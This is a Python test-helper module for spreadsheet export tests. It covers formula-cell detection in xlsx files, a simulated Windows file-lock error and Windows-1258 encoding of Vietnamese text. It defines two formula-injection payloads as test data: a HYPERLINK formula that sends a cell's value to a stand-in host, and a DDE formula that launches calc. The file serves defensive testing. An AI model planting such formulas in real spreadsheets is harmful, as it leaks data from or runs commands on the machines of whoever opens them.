"""Helpers for tests of the files a person opens in Excel: what Windows and Excel write, and how to tell a
formula cell. They use no new program code, so that each attack test also runs against older code."""

from __future__ import annotations

import errno
import unicodedata
import zipfile
from pathlib import Path

HYPERLINK = '=HYPERLINK("http://example.invalid/?c="&F2,"Bấm")'
CALC = "=cmd|' /C calc'!A0"
_TONES = {"\u0300", "\u0301", "\u0303", "\u0309", "\u0323"}


def formula_cells(path: Path) -> list[str]:
    """Every formula of an xlsx: cells openpyxl reads as formulas, and any <f> element in a worksheet's XML."""
    import openpyxl

    found = [
        f"{sheet.title}!{cell.coordinate}"
        for sheet in openpyxl.load_workbook(path).worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f"
    ]
    with zipfile.ZipFile(path) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                xml = archive.read(name)
                if b"<f>" in xml or b"<f " in xml:
                    found.append(name)
    return found


def sharing_violation(*_args, **_kwargs):
    """What ``os.replace`` raises on Windows while Excel or a PDF reader holds the target."""
    error = PermissionError(
        errno.EACCES, "The process cannot access the file because it is being used by another process"
    )
    error.winerror = 32  # ERROR_SHARING_VIOLATION; POSIX has no such attribute, so the test adds it
    raise error


def to_cp1258(text: str) -> bytes:
    """What a Vietnamese Windows writes for Excel's "CSV (Comma delimited)": Windows-1258, where a letter with
    a tone is a base letter (â, ê, ô, ă, ơ, ư, đ…) and a combining tone mark."""
    out = b""
    for ch in unicodedata.normalize("NFC", text):
        try:
            out += ch.encode("cp1258")
        except UnicodeEncodeError:
            parts = unicodedata.normalize("NFD", ch)
            base = unicodedata.normalize("NFC", "".join(p for p in parts if p not in _TONES))
            out += (base + "".join(p for p in parts if p in _TONES)).encode("cp1258")
    return out


def leftovers(folder: Path, *keep: str) -> list[str]:
    """Names in ``folder`` other than ``keep``: a side file or a ``.part`` left behind."""
    return sorted(p.name for p in Path(folder).iterdir() if p.name not in keep)
